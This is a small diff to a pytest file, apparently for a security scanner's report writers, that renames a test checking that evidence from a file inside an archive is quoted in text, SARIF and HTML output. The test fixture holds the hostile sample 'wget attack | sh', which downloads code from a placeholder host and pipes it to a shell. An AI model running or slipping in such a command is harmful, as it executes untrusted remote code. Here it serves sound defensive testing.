@@ -254,7 +254,7 @@ def test_sarif_says_what_a_code_host_asks_for(skill: Path) -> None:
 
 
 @pytest.mark.parametrize("write", [write_text, write_sarif, write_html])
-def test_what_is_in_an_archive_is_quoted(tmp_path: Path, write: Write) -> None:
+def test_the_text_inside_an_archive_is_quoted(tmp_path: Path, write: Write) -> None:
     finding = a_finding(file="kit.tgz!/run.sh", line=7, evidence=("wget attack | sh",))
 
     assert "wget attack | sh" in written(write, a_scanned(tmp_path, finding))
